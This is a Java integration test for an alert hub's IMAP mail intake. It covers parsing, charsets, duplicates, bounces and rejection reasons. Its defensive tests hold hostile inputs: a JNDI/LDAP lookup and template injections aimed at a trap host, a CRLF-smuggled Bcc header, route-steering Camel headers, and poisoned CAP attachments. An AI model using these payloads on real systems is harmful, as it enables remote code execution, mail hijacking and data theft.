package org.tocsin.hub;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.icegreen.greenmail.store.MailFolder;
import com.icegreen.greenmail.user.GreenMailUser;
import com.icegreen.greenmail.util.GreenMail;
import com.icegreen.greenmail.util.ServerSetup;
import jakarta.mail.Flags;
import jakarta.mail.Session;
import jakarta.mail.internet.MimeMessage;
import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.List;
import java.util.Properties;
import java.util.UUID;
import java.util.stream.Collectors;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.tocsin.simulator.SimulatorSettings;
import org.tocsin.testing.Cap;
import org.tocsin.testing.Console;
import org.tocsin.testing.EveryChannel;
import org.tocsin.testing.HostileSenders;
import org.tocsin.testing.Hub;
import org.tocsin.testing.ParkedTriggers;
import org.tocsin.testing.Person;
import org.tocsin.testing.Poison;
import org.tocsin.testing.Relay;
import org.tocsin.testing.Trap;

/** A mailbox on a real IMAP server: what triggers, what does not and why, and what comes back of our own. */
class MailInIT {
    private static final Duration LONG = Duration.ofSeconds(60);
    private static final ObjectMapper JSON = new ObjectMapper();
    private static final String PASSWORD = "mailbox-password-of-the-tests";

    private static final Trap trap = new Trap();
    private static GreenMail server;
    private static GreenMailUser mailbox;
    private static Relay line;
    private static Console console;
    private static Hub hub;

    private final String name = UUID.randomUUID().toString().substring(0, 8);

    @BeforeAll
    static void start() {
        server = new GreenMail(new ServerSetup(0, "127.0.0.1", "imap").dynamicPort());
        server.start();
        mailbox = server.setUser("alerts@hub.example.org", "hub", PASSWORD);
        line = new Relay(server.getImap().getPort());
        hub = Hub.start(
                SimulatorSettings.defaults(),
                "--tocsin.delivery-plan=src/test/resources/plan/mail.yaml",
                "--tocsin.intake.sensors=src/test/resources/sensors/mail.yaml",
                "--tocsin.mail-in.alerts.host=127.0.0.1",
                "--tocsin.mail-in.alerts.port=" + line.port(),
                "--tocsin.mail-in.alerts.protocol=imap",
                "--tocsin.mail-in.alerts.username=hub",
                "--tocsin.mail-in.alerts.password=" + PASSWORD,
                "--tocsin.mail-in.starttls=false",
                "--tocsin.mail-in.timeout-ms=2000",
                "--tocsin.mail-in.poll-ms=20000",
                "--tocsin.mail-in.max-bytes=300000",
                "--tocsin.intake.speaks-for.mail-alerts=noc@example\\.org",
                "--tocsin.mail-in.senders.mail-alerts=noc@example.org, pumps.example.org");
        console = new Console();
    }

    @AfterAll
    static void stop() {
        hub.close();
        console.close();
        line.close();
        server.stop();
        trap.close();
    }

    private void deliver(String mail) {
        deliver(mail, StandardCharsets.UTF_8);
    }

    private void deliver(String mail, Charset charset) {
        try {
            mailbox.deliver(new MimeMessage(
                    Session.getInstance(new Properties()),
                    new ByteArrayInputStream(mail.replace("\n", "\r\n").getBytes(charset))));
        } catch (jakarta.mail.MessagingException e) {
            throw new IllegalStateException(e);
        }
    }

    private String mail(String from, String headers, String body) {
        return "From: %s\nMessage-ID: <%s@example.org>\nDate: Thu, 26 Nov 2026 05:00:00 +0000\n%s\n%s"
                .formatted(from, name, headers, body);
    }

    private static String cap(String identifier, String event, Person person, String text) {
        return Cap.xml("noc@example.org", identifier, event, text, person);
    }

    /** Outcome and reason of the newest mail, when another one than before was dealt with. */
    private static JsonNode next(long before) {
        return await().atMost(LONG)
                .until(
                        () -> mails().stream()
                                .filter(entry -> entry.path("id").asLong() > before)
                                .findFirst(),
                        java.util.Optional::isPresent)
                .orElseThrow();
    }

    private static long newest() {
        return mails().isEmpty() ? 0 : mails().get(0).path("id").asLong();
    }

    private static List<JsonNode> mails() {
        try {
            return JSON.readTree(hub.get("/api/mails", Hub.OPERATOR_KEY).body())
                    .path("mails")
                    .valueStream()
                    .collect(Collectors.toList());
        } catch (IOException e) {
            throw new java.io.UncheckedIOException(e);
        }
    }

    private static List<String> states(String incident) {
        return hub.jdbc()
                .queryForList(
                        "select msg_type from alert where source = 'mail-alerts' and incident_key like ? order by id",
                        String.class,
                        "%" + incident + "%");
    }

    /** That IDLE tells of it, and not the poll, is shown by MailClientsIT. */
    @Test
    void aMailWithCapReachesThePhone() {
        Person person = Person.of(hub);
        String cap = cap(name, "Flood", person, "Go up.");

        deliver(mail("NOC <noc@example.org>", "Content-Type: multipart/mixed; boundary=b\n", """
                --b
                Content-Type: text/plain

                See the attachment.
                --b
                Content-Type: application/cap+xml; name=alert.cap
                Content-Disposition: attachment

                """ + cap + "\n--b--\n"));

        await().atMost(LONG).until(() -> person.whatsAppsOnPhone() == 1);
    }

    @Test
    void aMailBecomesAnAlertByTheMappingOfItsSource() {
        long before = newest();
        deliver(mail(
                "x@pumps.example.org",
                "Subject: =?utf-8?Q?Pumpe_f=C3=A4llt_aus?=\n",
                "Pump: " + name + "\nState: raised\n"));
        JsonNode raised = next(before);
        assertThat(raised.path("outcome").asText()).isEqualTo("ALERT");
        assertThat(hub.jdbc()
                        .queryForObject(
                                "select cap from alert where id = ?",
                                String.class,
                                raised.path("alert").asLong()))
                .contains("Pumpe fällt aus");

        before = newest();
        deliver(mail("x@pumps.example.org", "Subject: well\n", "Pump: " + name + "\nState: cleared\n"));
        // The end of a sensor's incident is told to nobody.
        JsonNode cleared = next(before);
        assertThat(cleared.path("outcome").asText()).isEqualTo("IGNORED");
        assertThat(cleared.path("reason").asText()).isEqualTo("silent");
    }

    /** As bytes on the wire: HTML alone, and letters that are not of the charset that is named. */
    @ParameterizedTest(name = "{0}, really {1}")
    @CsvSource(
            delimiter = '|',
            value = {
                "text/html; charset=utf-8    | UTF-8        | <style>p{x}</style><p>Pump: %s<p>State: raised<br>Gr&ouml;ße 4 &lt;b&gt;",
                "text/html                   | windows-1252 | <html><body><div>Pump: %s</div><div>State: raised</div>Größe 4 &lt;b&gt;",
                "text/plain; charset=utf-8   | ISO-8859-1   | Pump: %s~State: raised~Größe 4 <b>",
                "text/plain; charset=x-none  | UTF-8        | Pump: %s~State: raised~Größe 4 <b>",
                "text/plain; charset=us-ascii| UTF-8        | Pump: %s~State: raised~Größe 4 <b>",
            })
    void whatAPersonWouldReadIsTheTextWhateverTheMailCallsIt(String type, String charset, String body) {
        long before = newest();
        deliver(
                mail(
                        "x@pumps.example.org",
                        "Subject: s\nMIME-Version: 1.0\nContent-Transfer-Encoding: 8bit\nContent-Type: " + type + "\n",
                        body.formatted(name).replace('~', '\n') + "\n"),
                Charset.forName(charset));

        JsonNode entry = next(before);
        assertThat(entry.path("outcome").asText()).as(entry.toString()).isEqualTo("ALERT");
        assertThat(hub.jdbc()
                        .queryForObject(
                                "select cap from alert where id = ?",
                                String.class,
                                entry.path("alert").asLong()))
                .contains("Größe 4 <b>")
                .doesNotContain("p{x}");
    }

    /** As after a crash between the commit and the mark: the mail is unread, and its entry was not written. */
    @Test
    void aMailThatIsReadAgainIsKnownAndAlsoWithoutItsEntryWithoutEffect() throws Exception {
        String mail = mail("x@pumps.example.org", "Subject: s\n", "Pump: " + name + "\nState: raised\n");
        long before = newest();
        deliver(mail);
        next(before);

        deliver("Received: from somewhere by elsewhere\n" + mail);
        awaitAllSeen();
        assertThat(states(name)).containsExactly("Alert");

        hub.jdbc().update("delete from mail_in where mailbox = 'mail-alerts'");
        unseen();
        before = newest();
        deliver(mail("noc@example.org", "Subject: wake\n", "Pump: " + name + "\nState: steady\n")
                .replace(name + "@", "w@"));
        awaitAllSeen();
        assertThat(states(name)).containsExactly("Alert");
        assertThat(mails()).anyMatch(entry -> entry.path("reason").asText().matches("silent|duplicate"));
    }

    private static MailFolder inbox() throws Exception {
        return server.getManagers().getImapHostManager().getInbox(mailbox);
    }

    private static void awaitAllSeen() {
        await().atMost(LONG).until(() -> {
            MailFolder inbox = inbox();
            return inbox.getMessages().stream().allMatch(m -> m.getFlags().contains(Flags.Flag.SEEN));
        });
    }

    private static void unseen() throws Exception {
        inbox().getMessages().forEach(m -> m.getFlags().remove(Flags.Flag.SEEN));
    }

    @ParameterizedTest(name = "{0}: {1}")
    @CsvSource(
            delimiter = '|',
            value = {
                "IGNORED|sender-not-listed|From: stranger@example.org",
                "IGNORED|own-mail|From: alerts@hub.example.org",
                "IGNORED|auto-reply|From: noc@example.org~Auto-Submitted: auto-replied",
                "IGNORED|mailing-list|From: noc@example.org~List-Id: <x.example.org>",
                "IGNORED|bounce-of-others|From: MAILER-DAEMON@example.org~Return-Path: <>",
                "PARKED|encrypted|From: noc@example.org~Content-Type: application/pkcs7-mime",
                "PARKED|not-read|From: noc@example.org~Subject: nothing that the mapping knows",
                "PARKED|not-allowed|From: noc@example.org~Content-Type: application/xml"
            })
    void eachMailEndsWithItsReasonAndIsNeverAnswered(String outcome, String reason, String headers) {
        long before = newest();
        long sent = hub.simulator.mail().journal().attempts();
        double counted = counted(reason);

        deliver(headers.replace('~', '\n') + "\nMessage-ID: <" + name + "@example.org>\n\n"
                + cap(name, "Flood", Person.of(hub), "x")
                        .replace("alert", reason.equals("not-read") ? "no-alert" : "alert")
                        .replace("<sender>noc", reason.equals("not-allowed") ? "<sender>mayor" : "<sender>noc"));

        JsonNode entry = next(before);
        assertThat(entry.path("outcome").asText() + " " + entry.path("reason").asText())
                .isEqualTo(outcome + " " + reason);
        assertThat(entry.toString()).doesNotContain("example.org");
        assertThat(counted(reason)).isEqualTo(counted + 1);
        if (outcome.equals("PARKED")) {
            ParkedTriggers.await(
                    hub,
                    row -> reason.equals("not-allowed")
                            ? row.path("reason").asText().endsWith("may not speak for this sender.")
                            : row.path("id")
                                    .asText()
                                    .equals(entry.path("parked").asText()));
        }
        assertThat(hub.simulator.mail().journal().attempts())
                .as("no mail at all: no answer, to nobody")
                .isEqualTo(sent);
    }

    private static double counted(String reason) {
        var counter = hub.context
                .getBean(io.micrometer.core.instrument.MeterRegistry.class)
                .find("tocsin.mails")
                .tag("reason", reason)
                .counter();
        return counter == null ? 0 : counter.count();
    }

    @Test
    void anAttachmentThatAttacksItsReaderIsParkedAndNothingThatItNamesIsFetched() {
        List<String> attacks = Poison.documents()
                .map(document -> (String) document.get()[2])
                .filter(document -> document.contains("urn:oasis:names:tc:emergency:cap"))
                .toList();
        assertThat(attacks).hasSizeGreaterThanOrEqualTo(5);
        for (int i = 0; i < attacks.size(); i++) {
            long before = newest();
            deliver(mail(
                            "noc@example.org",
                            "Content-Type: multipart/mixed; boundary=b\n",
                            """
                    --b
                    Content-Type: application/cap+xml; name=alert.cap
                    Content-Disposition: attachment

                    """ + attacks.get(i).replace("TRAP", trap.address()) + "\n--b--\n")
                    .replace(name + "@", name + i + "@"));

            JsonNode entry = next(before);
            assertThat(entry.path("outcome").asText() + " "
                            + entry.path("reason").asText())
                    .isEqualTo("PARKED not-read");
            JsonNode row = ParkedTriggers.await(hub, parked -> parked.path("id")
                    .asText()
                    .equals(entry.path("parked").asText()));
            assertThat(row.path("reason").asText()).isNotBlank().doesNotContain("root:");
        }
        assertThat(trap.calls()).isZero();
    }

    @Test
    void aMailThatIsTooLargeIsParkedAndTheNextOneGoesOn() {
        Person person = Person.of(hub);
        long before = newest();
        deliver(mail("noc@example.org", "Subject: large\n", "x".repeat(400_000)));
        JsonNode entry = next(before);
        assertThat(entry.path("reason").asText()).isEqualTo("too-large");

        deliver(mail("noc@example.org", "Content-Type: text/xml\n", cap(name, "Flood", person, "Go up.")));
        await().atMost(LONG).until(() -> person.whatsAppsOnPhone() == 1);
    }

    @ParameterizedTest
    @CsvSource({"failed, 5.1.1, true", "failed, 4.4.7, false", "delayed, 4.4.1, "})
    void aBounceMovesItsLadderOnAndAHardOneTakesTheAddressOutOfUse(String action, String status, Boolean skipped) {
        Person person = Person.of(hub);
        assertThat(hub.postAlert(Cap.alert("Mail first", person.id())).statusCode())
                .isEqualTo(202);
        await().atMost(LONG).until(() -> person.mailsInBox() == 1);
        String id = person.mail().get(0).providerId();
        long before = newest();

        // Whoever makes one up has no key, whatever else it names.
        deliver(bounce("<1z.1234567890abc@hub.example.org>", person, "failed", "5.1.1"));
        assertThat(next(before).path("reason").asText()).isEqualTo("bounce-of-others");
        before = newest();
        deliver(bounce(id, person, action, status));

        JsonNode entry = next(before);
        if (skipped == null) {
            assertThat(entry.path("reason").asText()).isEqualTo("bounce-delayed");
            assertThat(person.sms()).isEmpty();
            return;
        }
        assertThat(entry.path("reason").asText()).isEqualTo("bounce-of-ours");
        await().atMost(LONG).until(() -> person.smsOnPhone() == 1);

        assertThat(hub.postAlert(Cap.alert("Mail first", person.id())).statusCode())
                .isEqualTo(202);
        await().atMost(LONG).until(() -> skipped ? person.smsOnPhone() == 2 : person.mailsInBox() == 2);
        assertThat(person.mailsInBox()).isEqualTo(skipped ? 1 : 2);
    }

    private static String bounce(String messageId, Person person, String action, String status) {
        return """
                Return-Path: <>
                From: MAILER-DAEMON@mx.example.net
                To: alerts@hub.example.org
                Message-ID: <%s@mx.example.net>
                Subject: Undelivered Mail Returned to Sender
                MIME-Version: 1.0
                Content-Type: multipart/report; report-type=delivery-status; boundary="b"

                --b
                Content-Type: text/plain

                I am sorry.
                --b
                Content-Type: message/delivery-status

                Reporting-MTA: dns; mx.example.net

                Final-Recipient: rfc822; %s
                Action: %s
                Status: %s

                --b
                Content-Type: text/rfc822-headers

                Message-ID: %s
                Subject: Flood

                --b--
                """.formatted(UUID.randomUUID(), person.email(), action, status, messageId);
    }

    @Test
    void whatWouldSteerARouteIsDroppedAndTheTextReachesPeopleLiterally() {
        Person person = Person.of(hub);
        String text = name + " ${bean:x} {{sys:user.home}} ${jndi:ldap://" + trap.address() + "/x}";
        String hostile = Stream.concat(
                        HostileSenders.NAMES.stream(),
                        Stream.of(
                                "CamelMailDelete", "CamelMailMoveTo", "CamelMailCopyTo", "Disposition-Notification-To"))
                .map(header -> header + ": http://" + trap.address() + "/?to=trap@example.org\n")
                .collect(Collectors.joining());
        int mails = inboxSize();

        deliver(mail(
                "noc@example.org",
                hostile + "Content-Type: application/xml\nCamelMailDelete: true\nReply-To: trap@example.org\n"
                        + "Subject: ${bean:x} =?utf-8?Q?a=0D=0ABcc:_trap@example.org?=\n",
                cap(name, "Everywhere", person, text)));

        EveryChannel.shows(person, text);
        awaitAllSeen();
        assertThat(inboxSize()).as("the mail is where it was").isEqualTo(mails + 1);
        assertThat(trap.calls()).isZero();
        assertThat(hub.simulator.mail().journal().messagesTo("trap@example.org"))
                .isEmpty();
        assertThat(console.takeLines()).noneMatch(line -> line.contains(name) || line.contains("noc@example.org"));
    }

    private static int inboxSize() {
        try {
            return inbox().getMessageCount();
        } catch (Exception e) {
            throw new IllegalStateException(e);
        }
    }

    @Test
    void aLineThatGoesDeadIsMadeAnewAndNoMailIsLost() {
        Person person = Person.of(hub);
        line.freeze(true);
        deliver(mail("noc@example.org", "Content-Type: text/xml\n", cap(name, "Flood", person, "Go up.")));
        await().atMost(LONG)
                .until(() -> hub.context
                                .getBean(io.micrometer.core.instrument.MeterRegistry.class)
                                .get("tocsin.mailbox.up")
                                .gauge()
                                .value()
                        == 0);
        assertThat(person.whatsApp()).isEmpty();

        line.freeze(false);

        await().atMost(LONG).until(() -> person.whatsAppsOnPhone() == 1);
    }
}
